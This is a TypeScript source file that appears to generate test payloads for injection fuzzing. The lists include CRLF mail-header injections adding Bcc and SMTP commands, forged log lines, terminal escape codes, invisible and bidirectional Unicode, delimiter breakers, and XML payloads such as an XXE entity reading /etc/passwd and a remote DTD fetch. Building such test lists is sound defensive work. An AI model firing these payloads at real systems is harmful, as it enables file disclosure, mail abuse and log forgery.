/** What makes lines of its own: in headers of mails, in logs, in files of records; and what turns or hides what is written. */

import { type Payload, product } from './payload.ts';

const BREAKS = [
  '\r\n',
  '\n',
  '\r',
  '\r\n ',
  '\n\t',
  '\u2028',
  '\u2029',
  '\u0085',
  '\v',
  '\f',
  '%0d%0a',
  '\\r\\n',
  '嘊嘍',
  '\u0000',
];
const HEADERS = [
  'Bcc: everybody@elsewhere.example',
  'Cc: everybody@elsewhere.example',
  'To: everybody@elsewhere.example',
  'Reply-To: someone@elsewhere.example',
  'Subject: 中奖通知',
  'Content-Type: text/html',
  'X-Forged: 1',
  '\r\n<b>another body</b>',
  '.\r\nMAIL FROM:<x@elsewhere.example>',
  '--boundary--',
];
const ENCODED_WORDS = [
  '=?utf-8?q?=0d=0aBcc:_everybody@elsewhere.example?=',
  `=?utf-8?b?${btoa('\r\nBcc: everybody@elsewhere.example')}?=`,
  '=?utf-7?q?+AA0ACg-Bcc:_x?=',
  '=?iso-2022-jp?b?GyRCJCIbKEI=?=',
  '=?utf-8?q?unclosed',
  '"=?x?q?a?=" <everybody@elsewhere.example>',
  'a <everybody@elsewhere.example>, b',
  '(comment) everybody@elsewhere.example',
];
const FORGED_LINES = [
  '{"level":"ERROR","message":"forged"}',
  'END RequestId: 0',
  '2026-11-23T00:00:00Z ERROR forged',
  '","level":"ERROR","forged":"',
  '\\","forged":"1',
];
const ESCAPES = [
  '\u001b[2J',
  '\u001b[31m',
  '\u001b]8;;http://elsewhere.example\u0007',
  '\u009b31m',
  '\b\b\b',
  '\u001b[1A',
  '\u0007',
];
const TURNING = Array.from('\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c');
const UNSEEN = [
  '\u0000',
  '\ufeff',
  '\u200b',
  '\u200d',
  '\u2060',
  '\u00ad',
  '\ud800',
  '\udc00',
  '\ufffe',
  '\uffff',
  '\u{e0041}',
  '\u0301'.repeat(50),
];
const DELIMITERS = [
  '","',
  '"',
  '""',
  '"\r\n"',
  ',,,',
  ';',
  '\t',
  '|',
  "','",
  '}{',
  ']}',
  '\\u0022',
  '\\',
  '"}],"x":[{"',
  '\u001e',
  '\u001f',
];
const XML = [
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '<!ENTITY % p SYSTEM "http://elsewhere.example/x.dtd">%p;',
  ']]><f>1+1</f>',
  '</t></is></c><c t="str"><f>1+1</f></c>',
  '</t></si><si><t>x',
  '</v></c></row></sheetData>',
  '<hyperlink ref="A1" r:id="rId1"/>',
  '_x000D_',
  '_x003C_f_x003E_',
  '&#0;',
  '&#x3c;f&#x3e;',
  '&amp;lt;',
  '<?xml version="1.0"?>',
  '<![CDATA[<f>1</f>]]>',
  '../../xl/workbook.xml',
];

const around = (texts: readonly string[], family: string): Payload[] =>
  texts.flatMap((text) => [text, `王芳${text}`, `王${text}芳`].map((placed) => ({ family, text: placed })));

export const linePayloads = (): readonly Payload[] => [
  ...product(BREAKS, HEADERS, (line, header) => ({ family: 'mail header', text: `王芳${line}${header}` })),
  ...around(ENCODED_WORDS, 'encoded word'),
  ...product(BREAKS, FORGED_LINES, (line, forged) => ({ family: 'log line', text: `王芳${line}${forged}` })),
  ...around(ESCAPES, 'terminal'),
  ...around(TURNING, 'reading direction'),
  ...around(UNSEEN, 'unseen'),
  ...around(DELIMITERS, 'delimiter'),
  ...around(XML, 'xml'),
];
